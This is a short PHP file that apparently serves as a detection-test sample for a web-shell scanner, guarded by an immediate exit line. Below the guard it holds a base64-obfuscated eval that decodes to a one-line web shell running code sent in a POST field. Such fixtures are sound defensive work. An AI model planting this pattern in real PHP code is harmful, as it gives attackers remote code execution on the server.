<?php exit; /* shellsweep test sample: inert, never functional */ ?>
<?php
$x = base64_decode("ZXZhbCgkX1BPU1RbJ2MnXSk7");
eval($x);
